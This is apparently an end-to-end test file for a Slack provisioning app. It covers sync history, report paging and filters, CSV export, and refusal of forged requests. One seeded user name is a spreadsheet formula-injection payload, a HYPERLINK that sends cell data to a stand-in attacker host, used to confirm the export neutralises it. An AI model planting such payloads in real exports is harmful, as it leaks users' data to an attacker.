/**
 * Sync history, reports and their CSV export, end to end: a real sync through the scheduler
 * against the Slack emulator, the Home section, the report modal paged and filtered with
 * views.update, the CSV downloaded from the admin's DM and compared line by line, and forged
 * presses from a standard member refused with nothing sent.
 */
import { openHomeArea } from '../../../support/home-areas';
import { validateView } from '../../../../scripts/slack-emulator/block-kit';
import type { SeedUser } from '../../../../scripts/slack-emulator';
import type { SlackView } from '../../../../scripts/slack-emulator/state';

import { HISTORY_IDS } from '../../../../src/features/provisioning/home/history-ids';
import { createProvisioningRepos, type ProvisioningConfig } from '../../../../src/features/provisioning';
import { PROVISIONING_JOB } from '../../../../src/features/provisioning/sync.job';
import type { SyncActionLine } from '../../../../src/features/provisioning/sync-run.repository';
import { eventually, startTestConnector, type TestConnector } from '../../../support/connector';
import { addMember, modalWith, press, settle, textOf } from '../../members/home/harness';
import { connectorView } from '../../../support/store-repos';

const TEAM = { id: 'T0HISTORY1', name: 'Acme History', domain: 'acme-history' };
const ADMIN = 'U0ADMIN001';
const STANDARD = 'U0STAND001';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
const EXTRA = 30;
const USERS: SeedUser[] = [
  { id: ADMIN, name: 'wanda', real_name: 'Wanda Admin', profile: { email: 'wanda@acme.test', real_name: 'Wanda Admin' } },
  { id: STANDARD, name: 'sam', real_name: 'Sam Standard', profile: { email: 'sam@acme.test', real_name: 'Sam Standard' } },
  { id: 'U0FORMULA1', name: 'evil', real_name: FORMULA_NAME, profile: { email: 'evil@acme.test', real_name: FORMULA_NAME } },
  { id: 'U0MINUS001', name: 'minus', real_name: '-1+1 Minus', profile: { email: 'minus@acme.test', real_name: '-1+1 Minus' } },
  ...Array.from({ length: EXTRA }, (_, i): SeedUser => {
    const n = String(i).padStart(2, '0');
    return { id: `U0USER00${n}`, name: `user${n}`, real_name: `User ${n}`, profile: { email: `user${n}@acme.test`, real_name: `User ${n}` } };
  }),
];
const GROUPS = [{ id: 'SENG000001', handle: 'eng', name: 'Engineering', users: ['U0USER0000', 'U0USER0001', 'U0FORMULA1'] }];
const CONFIG: ProvisioningConfig = {
  scope: 'everyone',
  groupIds: [],
  teamMapping: { enabled: true, groupToTeam: { SENG000001: 'Engineering' } },
  includeGuests: false,
  inviteNewMembers: false,
  maxDeactivationShare: 1,
};
const FIELD_LABELS: Record<string, string> = { name: 'name', email: 'email', avatarUrl: 'profile picture', status: 'status', team: 'team' };

/** RFC 4180 reader for the checks: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"' && field === '') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += char;
  }
  if (field !== '' || record.length > 0) throw new Error('last record does not end with CRLF');
  return records;
}

type Block = {
  type: string;
  block_id?: string;
  text?: { text: string };
  elements?: Array<{ action_id: string; value?: string }>;
  accessory?: { action_id: string; value: string };
};
const lineSeqs = (view: SlackView) =>
  (view.blocks as Block[])
    .filter((b) => b.block_id?.startsWith(HISTORY_IDS.lineBlockPrefix))
    .map((b) => Number(b.block_id!.slice(HISTORY_IDS.lineBlockPrefix.length)));
const lineTexts = (view: SlackView) => (view.blocks as Block[]).filter((b) => b.block_id?.startsWith(HISTORY_IDS.lineBlockPrefix)).map((b) => b.text!.text);
const hasButton = (view: SlackView, actionId: string) => textOf(view.blocks).includes(`"action_id":"${actionId}"`);

describe('sync history, reports and export', () => {
  let t: TestConnector;
  let deps: ReturnType<typeof connectorView>;
  let runId: string;
  let lines: SyncActionLine[];

  beforeAll(async () => {
    t = await startTestConnector({ emulator: { seed: { team: TEAM, users: USERS, usergroups: GROUPS } }, label: 'provisioning_history' });
    deps = connectorView(t.connector);
    await deps.repos.workspaces.transition(TEAM.id, ['pending'], 'live', { acknowledgedAt: new Date() });
    await deps.workspace.refresh();
    await addMember(deps, { id: 'm-wanda', name: 'Wanda Admin', email: 'wanda@acme.test', accountType: 'security_admin' });
    await addMember(deps, { id: 'm-sam', name: 'Sam Standard', email: 'sam@acme.test' });
    await createProvisioningRepos(deps.db).config.save(CONFIG, 'm-wanda', new Date());
    expect(await deps.scheduler.runPlannedNow(PROVISIONING_JOB)).toMatchObject({ ran: true, report: { status: 'completed' } });
    const [run] = await createProvisioningRepos(deps.db).runs.latest(1);
    runId = run!.id;
    lines = [];
    for await (const line of createProvisioningRepos(deps.db).runs.streamLines(runId)) lines.push(line);
    // 32 created, the two existing members updated (their pictures), 3 added to a team: two pages and a bit.
    expect(lines.map((l) => l.kind).sort()).toEqual([...Array(3).fill('added_to_team'), ...Array(32).fill('created'), 'updated', 'updated']);
  });
  afterAll(() => t.stop());

  /** A static_select choice in the report modal. */
  function choose(userId: string, actionId: string, value: string, view: SlackView) {
    return t.emulator.socket.sendInteractive(
      t.emulator.interactionPayload(userId, {
        type: 'block_actions',
        container: { type: 'view', view_id: view.id },
        view,
        actions: [
          {
            type: 'static_select',
            action_id: actionId,
            block_id: HISTORY_IDS.toolbarBlock,
            selected_option: { text: { type: 'plain_text', text: value }, value },
            action_ts: '1',
          },
        ],
      }),
    );
  }

  /** Opens the report from the Home and waits for the new modal (not one an earlier test left open). */
  async function openReport(userId: string): Promise<SlackView> {
    const previous = t.emulator.modalStackOf(userId).at(-1)?.id;
    await press(t, userId, `${HISTORY_IDS.openReportPrefix}0`, { value: runId });
    return modalWith(t, userId, HISTORY_IDS.reportView, (v) => v.id !== previous, 'a newly opened report');
  }

  it('shows the run in the admin’s Home, and nothing to a standard member', async () => {
    // The history is in the admin's Sync area.
    await openHomeArea(t, ADMIN, 'sync');
    const home = await eventually(
      () => (textOf(t.emulator.homeViewOf(ADMIN)).includes('Sync history') ? t.emulator.homeViewOf(ADMIN) : undefined),
      10_000,
      'the admin’s home',
    );
    expect(validateView(home)).toEqual([]);
    const row = (home!.blocks as Block[]).find((b) => b.block_id === `${HISTORY_IDS.runBlockPrefix}0`)!;
    expect(row.text!.text).toContain('*Sync · Sync now* · :white_check_mark: Completed');
    expect(row.text!.text).toMatch(/created/);
    expect(row.accessory).toMatchObject({ action_id: `${HISTORY_IDS.openReportPrefix}0`, value: runId });

    await t.emulator.socket.sendEvent({ type: 'app_home_opened', user: STANDARD, tab: 'home', channel: 'D2', event_ts: '2' });
    const other = await eventually(() => t.emulator.homeViewOf(STANDARD), 10_000, 'the standard member’s home');
    expect(textOf(other)).not.toContain('Sync history');
  });

  it('pages the report with Next and Previous', async () => {
    const first = await openReport(ADMIN);
    expect(validateView(first)).toEqual([]);
    expect(lineSeqs(first)).toEqual(Array.from({ length: 20 }, (_, i) => i));
    expect(hasButton(first, HISTORY_IDS.next)).toBe(true);
    expect(hasButton(first, HISTORY_IDS.previous)).toBe(false);
    expect(textOf(first)).toContain('Lines 1–20');

    await press(t, ADMIN, HISTORY_IDS.next, { value: 'next', view: first });
    const second = await modalWith(t, ADMIN, HISTORY_IDS.reportView, (v) => lineSeqs(v)[0] === 20, 'the second page');
    expect(validateView(second)).toEqual([]);
    // The last page: the rest of the 37 lines.
    expect(lineSeqs(second)).toEqual(Array.from({ length: lines.length - 20 }, (_, i) => 20 + i));
    expect(hasButton(second, HISTORY_IDS.previous)).toBe(true);
    expect(hasButton(second, HISTORY_IDS.next)).toBe(false);

    await press(t, ADMIN, HISTORY_IDS.previous, { value: 'previous', view: second });
    const back = await modalWith(t, ADMIN, HISTORY_IDS.reportView, (v) => lineSeqs(v)[0] === 0, 'the previous page');
    expect(lineSeqs(back)).toEqual(lineSeqs(first));
    expect(hasButton(back, HISTORY_IDS.previous)).toBe(false);
    expect(hasButton(back, HISTORY_IDS.next)).toBe(true);
  });

  it('filters by action and by changed field, and pages within the filter', async () => {
    const report = await openReport(ADMIN);
    await choose(ADMIN, HISTORY_IDS.actionFilter, 'kind:created', report);
    const created = await modalWith(t, ADMIN, HISTORY_IDS.reportView, (v) => (v.private_metadata ?? '').includes('"kind":"created"'), 'the created filter');
    expect(validateView(created)).toEqual([]);
    const expectedCreated = lines.filter((l) => l.kind === 'created').map((l) => l.seq);
    expect(lineSeqs(created)).toEqual(expectedCreated.slice(0, 20));
    expect(lineTexts(created).every((text) => text.includes(' · created · '))).toBe(true);
    await press(t, ADMIN, HISTORY_IDS.next, { value: 'next', view: created });
    const createdNext = await modalWith(t, ADMIN, HISTORY_IDS.reportView, (v) => lineSeqs(v)[0] === expectedCreated[20], 'the second created page');
    expect(lineSeqs(createdNext)).toEqual(expectedCreated.slice(20, 40));
    expect(hasButton(createdNext, HISTORY_IDS.previous)).toBe(true);

    await choose(ADMIN, HISTORY_IDS.fieldFilter, 'team', createdNext);
    const none = await modalWith(t, ADMIN, HISTORY_IDS.reportView, (v) => (v.private_metadata ?? '').includes('"field":"team"'), 'created + team');
    // Created lines never change a team: that is the added_to_team lines' job.
    expect(lineSeqs(none)).toEqual([]);
    expect(textOf(none)).toContain('No line of this report matches these filters.');

    await choose(ADMIN, HISTORY_IDS.actionFilter, 'all', none);
    const team = await modalWith(
      t,
      ADMIN,
      HISTORY_IDS.reportView,
      (v) => (v.private_metadata ?? '').includes('"field":"team"') && !(v.private_metadata ?? '').includes('created'),
      'team only',
    );
    expect(lineSeqs(team)).toEqual(lines.filter((l) => l.changes.some((c) => c.field === 'team')).map((l) => l.seq));
    expect(lineTexts(team).join('\n')).toContain('• team: — → Engineering');

    await choose(ADMIN, HISTORY_IDS.actionFilter, 'outcome:failed', team);
    const failed = await modalWith(t, ADMIN, HISTORY_IDS.reportView, (v) => (v.private_metadata ?? '').includes('"outcome":"failed"'), 'failed');
    expect(lineSeqs(failed)).toEqual([]);
  });

  it('exports the whole report as CSV into the admin’s DM, formula-looking names neutralised', async () => {
    const report = await openReport(ADMIN);
    await press(t, ADMIN, HISTORY_IDS.exportCsv, { value: runId, view: report });
    const message = await eventually(() => t.emulator.messagesTo(ADMIN).find((m) => (m.files?.length ?? 0) > 0), 10_000, 'the CSV in the DM');
    const stored = [...t.emulator.state.files.values()].find((f) => f.file.id === message.files![0]!.id)!;
    expect(stored.file.name).toMatch(/^sync-report-\d{4}-\d{2}-\d{2}-\d{4}\.csv$/);
    const download = await fetch(stored.file.url_private_download, { headers: { authorization: `Bearer ${t.emulator.botToken}` } });
    const bytes = Buffer.from(await download.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parseCsv(bytes.subarray(3).toString('utf8'));

    expect(records[0]).toEqual(['Member', 'Slack user', 'Action', 'Field', 'Before', 'After', 'Outcome', 'Detail']);
    const neutral = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);
    const expected: string[][] = [];
    for (const line of lines) {
      // The name the line carries (no lookup at export) is the member's name in the directory.
      const member = (await deps.repos.members.findById(line.memberId))?.name ?? line.memberId;
      expect(line.memberName).toBe(member);
      const kind = line.kind.replace(/_/g, ' ');
      const changes = line.changes.length > 0 ? line.changes : [undefined];
      for (const change of changes) {
        expected.push(
          [
            member,
            line.slackUserId ?? '',
            kind,
            change ? FIELD_LABELS[change.field]! : '',
            change?.before ?? '',
            change?.after ?? '',
            line.outcome,
            line.detail ?? '',
          ].map(neutral),
        );
      }
    }
    expect(records.length - 1).toBe(expected.length);
    for (const [i, row] of expected.entries()) expect({ line: i + 1, row: records[i + 1] }).toEqual({ line: i + 1, row });

    const evil = records.filter((r) => r[1] === 'U0FORMULA1');
    expect(evil.length).toBeGreaterThan(0);
    expect(evil.every((r) => r[0] === `'${FORMULA_NAME}`)).toBe(true);
    expect(records.find((r) => r[1] === 'U0FORMULA1' && r[3] === 'name')?.[5]).toBe(`'${FORMULA_NAME}`);
    expect(records.find((r) => r[1] === 'U0MINUS001')?.[0]).toBe("'-1+1 Minus");
  });

  it('refuses to open or export a report while its run is running', async () => {
    const running = await createProvisioningRepos(deps.db).runs.start('sync', 'manual', new Date());
    await openHomeArea(t, ADMIN, 'sync');
    const home = await eventually(
      () => {
        const view = t.emulator.homeViewOf(ADMIN);
        return view && textOf(view).includes('Running') ? view : undefined;
      },
      10_000,
      'the home with the running run',
    );
    const row = (home.blocks as Block[]).find((b) => b.block_id === `${HISTORY_IDS.runBlockPrefix}0`)!;
    expect(row.accessory).toBeUndefined();
    expect(row.text!.text).toContain('once this run finishes');

    // Forged presses with the running run's id.
    await press(t, ADMIN, `${HISTORY_IDS.openReportPrefix}0`, { value: running.id });
    const info = await modalWith(t, ADMIN, HISTORY_IDS.infoView);
    expect(textOf(info)).toContain('This sync is still running');
    const filesBefore = t.emulator.state.files.size;
    const dmBefore = t.emulator.messagesTo(ADMIN).length;
    await press(t, ADMIN, HISTORY_IDS.exportCsv, { value: running.id });
    await eventually(() => (t.emulator.messagesTo(ADMIN).length > dmBefore ? true : undefined), 10_000, 'the DM');
    expect(textOf(t.emulator.messagesTo(ADMIN).at(-1))).toContain('This sync is still running');
    expect(t.emulator.state.files.size).toBe(filesBefore);
    await createProvisioningRepos(deps.db).runs.update(running.id, { status: 'completed', finishedAt: new Date() });
  });

  it('refuses a standard member’s forged Open report and Export, sending nothing', async () => {
    const filesBefore = t.emulator.state.files.size;
    const uploadsBefore = t.emulator.callsOf('files.getUploadURLExternal').length;
    await press(t, STANDARD, `${HISTORY_IDS.openReportPrefix}0`, { value: runId });
    await press(t, STANDARD, HISTORY_IDS.exportCsv, { value: runId });
    await eventually(() => (t.emulator.messagesTo(STANDARD).length >= 2 ? true : undefined), 10_000, 'the refusals');
    await settle();
    expect(t.emulator.messagesTo(STANDARD).map((m) => m.text)).toEqual([
      expect.stringContaining('You cannot manage provisioning'),
      expect.stringContaining('You cannot manage provisioning'),
    ]);
    expect(t.emulator.messagesTo(STANDARD).some((m) => (m.files?.length ?? 0) > 0)).toBe(false);
    expect(t.emulator.modalStackOf(STANDARD)).toEqual([]);
    expect(t.emulator.state.files.size).toBe(filesBefore);
    expect(t.emulator.callsOf('files.getUploadURLExternal')).toHaveLength(uploadsBefore);
  });
});
